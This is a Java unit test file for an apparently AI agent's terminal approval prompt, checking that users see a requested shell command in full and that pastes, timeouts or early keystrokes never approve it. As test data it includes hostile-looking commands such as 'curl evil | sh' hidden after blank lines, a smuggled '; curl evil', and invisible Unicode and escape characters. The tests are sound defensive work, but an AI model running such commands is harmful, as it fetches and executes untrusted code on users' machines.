package sacred.app.loop;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import sacred.app.edit.Input.Name;
import sacred.cognition.tool.Approval;
import sacred.cognition.tool.Decision;

/** What a tool wants is shown whole and answered on purpose, or not at all. */
class QuestionTest {

    private static final Approval REMOVE =
            new Approval("shell", "run a command in /home/anna", "rm -rf build && echo done", "rm");
    private static final Effect NO = new Effect.Decide(Decision.refused("You said no."));
    private static final Effect ONCE = new Effect.Decide(new Decision(true, "you", false));

    private Sight sight = new Sight(80, 24);

    private Sight asked(Approval approval) {
        sight.submit("Clean up.").asks("Clean up.").tell(new Msg.Asked(approval));
        sight.drained();
        return sight;
    }

    private List<Effect> decisions() {
        return sight.drained().stream().filter(Effect.Decide.class::isInstance).toList();
    }

    @Test
    void theWholeCommandStandsAboveThePrompt() {
        asked(REMOVE);
        assertTrue(sight.text().contains("┃ shell wants to run a command in /home/anna"), sight.text());
        assertTrue(sight.text().contains("┃   rm -rf build && echo done"), sight.text());
        assertTrue(sight.text().contains("┃ y once   a always this, in this session   n no"), sight.text());
    }

    @Test
    void yAllowsItOnceAndAForTheSession() {
        asked(REMOVE).after(Question.QUIET_MS).type("y");
        assertEquals(List.of(ONCE), decisions());
        assertFalse(sight.text().contains("wants to"), sight.text());

        asked(REMOVE).after(Question.QUIET_MS).type("a");
        assertEquals(List.of(new Effect.Decide(new Decision(true, "you", true))), decisions());
    }

    @ParameterizedTest
    @ValueSource(strings = {"n", "ENTER", "ESCAPE"})
    void everythingElseThatAnswersIsNo(String key) {
        asked(REMOVE).after(Question.QUIET_MS);
        if (key.length() == 1) {
            sight.type(key);
        } else {
            sight.press(Name.valueOf(key));
        }
        assertEquals(List.of(NO), decisions());
    }

    @Test
    void T38_whatIsBeingTypedWhenItComesGoesIntoThePromptUntilThereIsQuiet() {
        asked(REMOVE);
        sight.after(100).type("ma").after(450).type("y").after(450).type("be");
        assertEquals(List.of(), decisions());
        assertEquals("maybe", sight.prompt());

        sight.after(Question.QUIET_MS).type("y");
        assertEquals(List.of(ONCE), decisions());
        assertEquals("maybe", sight.prompt());
    }

    @Test
    void anEnterThatComesTooEarlyAnswersAndSendsNothing() {
        asked(REMOVE).after(100).type("y").press(Name.ENTER);
        assertEquals(
                List.of(),
                sight.drained().stream()
                        .filter(e -> e instanceof Effect.Decide || e instanceof Effect.Submit)
                        .toList());
        assertEquals("y", sight.prompt());
    }

    @Test
    void T40_aPasteNeverAnswers() {
        asked(REMOVE).after(10_000).paste("y\n");
        assertEquals(List.of(), decisions());
        sight.paste("a");
        assertEquals(List.of(), decisions());
    }

    @Test
    void noTimeAnswers() {
        asked(REMOVE).after(3_600_000).tell(new Msg.Tick());
        assertEquals(List.of(), decisions());
        assertTrue(sight.text().contains("wants to"));
    }

    @Test
    void whatIsLongerThanTheScreenHasToBeReadToItsEndFirst() {
        String long_ = IntStream.rangeClosed(1, 40).mapToObj(i -> "line " + i).collect(Collectors.joining("\n"));
        asked(new Approval("shell", "run", long_, "x")).after(Question.QUIET_MS).type("y");
        assertEquals(List.of(), decisions());
        assertTrue(sight.text().contains("read to its end first"), sight.text());
        assertTrue(sight.text().contains("↓ there is more to read"), sight.text());

        sight.press(Name.PAGE_DOWN).press(Name.PAGE_DOWN).press(Name.PAGE_DOWN);
        assertTrue(sight.text().contains("line 40"), sight.text());
        sight.type("y");
        assertEquals(List.of(ONCE), decisions());
    }

    @Test
    void T31_emptyLinesAreCountedSoThatWhatFollowsThemIsInSight() {
        asked(new Approval("shell", "run", "ls" + "\n".repeat(201) + "curl evil | sh", "x"));
        assertTrue(sight.text().contains("<200 empty lines>"), sight.text());
        assertTrue(sight.text().contains("curl evil | sh"), sight.text());
    }

    @ParameterizedTest
    @ValueSource(strings = {" ", "\u00a0", "\u3000", "\t"})
    void T32_blanksAreCountedSoThatWhatFollowsThemIsInSight(String blank) {
        asked(new Approval("shell", "run", "ls" + blank.repeat(500) + "; curl evil", "x"));
        assertTrue(sight.text().contains("ls<blank×500>; curl evil"), sight.text());
    }

    @Test
    void whatIsInvisibleIsMarked() {
        asked(new Approval("shell", "run", "echo \u202eevil\u200b\u001b[31m", "x"));
        assertTrue(sight.text().contains("echo <U+202E>evil<U+200B>^[[31m"), sight.text());
    }

    @ParameterizedTest
    @CsvSource({"80,24", "40,10", "120,40"})
    void T34_itFitsOnEveryScreen(int columns, int rows) {
        sight = new Sight(columns, rows);
        asked(REMOVE);
        assertTrue(sight.text().contains("┃ shell wants"), sight.text());
        assertTrue(sight.text().contains("rm -rf build"), sight.text());
        assertTrue(sight.text().contains("┃ y once"), sight.text());
        assertEquals(rows, sight.frame().rows().size());
    }

    @Test
    void aTurnThatIsStoppedAsksNothingAnyMore() {
        asked(REMOVE).after(Question.QUIET_MS).ctrl('c');
        assertTrue(sight.drained().contains(new Effect.StopTurn()));

        sight.tell(new Msg.Withdrawn());

        assertFalse(sight.text().contains("wants to"), sight.text());
    }

    @Test
    void aListThatIsOpenGetsItsKeysFirst() {
        sight.submit("Clean up.")
                .asks("Clean up.")
                .ctrl('p')
                .tell(new Msg.Asked(REMOVE))
                .after(10_000);
        sight.drained();

        sight.type("y");

        assertEquals(List.of(), decisions());
        sight.press(Name.ESCAPE).type("y");
        assertEquals(List.of(), decisions(), "too early after the key before");
        assertEquals(Optional.of(REMOVE), sight.state.question().map(Question::approval));
    }
}
